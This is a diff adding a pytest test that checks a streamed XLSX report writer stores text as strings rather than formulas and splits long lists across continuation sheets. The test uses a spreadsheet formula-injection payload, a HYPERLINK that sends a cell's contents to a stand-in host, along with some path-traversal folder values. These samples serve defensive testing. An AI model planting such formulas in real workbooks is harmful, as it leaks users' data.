@@ -77,6 +77,33 @@ def test_no_text_in_an_xlsx_output_becomes_a_formula(tmp_path):
     assert savers == []
 
 
+def test_a_streamed_workbook_types_text_as_text_and_goes_on_past_a_sheets_row_limit(tmp_path):
+    """The report's workbook is written row by row (bounded memory): no delivered text becomes a formula there
+    either, and a list longer than a sheet holds goes on in continuation sheets, each with its header."""
+    from kopru.reports import xlsx
+    from openpyxl import load_workbook
+
+    attack = '=HYPERLINK("http://example.invalid/?"&A2,"Ayrıntı")'
+    book = xlsx.StreamedBook("Örnek veri", rows_per_sheet=3)
+    rows = [[attack if n == 4 else f"Y{n}", 1.5, n] for n in range(1, 8)]
+    assert book.sheet("ISAS eksik kayıtlar", ["Yardım no", "Tutar", "Gün"], iter(rows)) == 3
+    book.sheet("Boş", ["Kod"], [])
+    book.write_to(tmp_path / "out.xlsx")
+    assert (tmp_path / "out.xlsx").stat().st_mode & 0o777 == 0o600
+    archive = zipfile.ZipFile(tmp_path / "out.xlsx")
+    assert not any(b"<f>" in archive.read(name) or b"<f " in archive.read(name)
+                   for name in archive.namelist() if name.startswith("xl/worksheets/"))
+    saved = load_workbook(tmp_path / "out.xlsx")
+    assert saved.sheetnames == ["ISAS eksik kayıtlar", "ISAS eksik kayıtlar (2)", "ISAS eksik kayıtlar (3)", "Boş"]
+    listed = [row for name in saved.sheetnames[:3] for row in saved[name].iter_rows(min_row=2, values_only=True)]
+    assert [list(row[:3]) for row in listed] == rows  # the fourth column holds the note, in the header only
+    assert all([c.value for c in saved[name][1]] == ["Yardım no", "Tutar", "Gün", "Örnek veri"]
+               for name in saved.sheetnames[:3])
+    cell = saved["ISAS eksik kayıtlar (2)"]["A2"]
+    assert cell.value == attack and cell.data_type == "s"
+    assert saved["ISAS eksik kayıtlar"]["B2"].number_format == "#,##0.00"
+
+
 @pytest.mark.parametrize("out", ["/etc/kopru", "{home}/../../../etc", "{home}/outputs/../../elsewhere"])
 def test_a_report_folder_outside_the_allowed_roots_is_refused(out, kopru_home, warehouse_url):
     from kopru import config
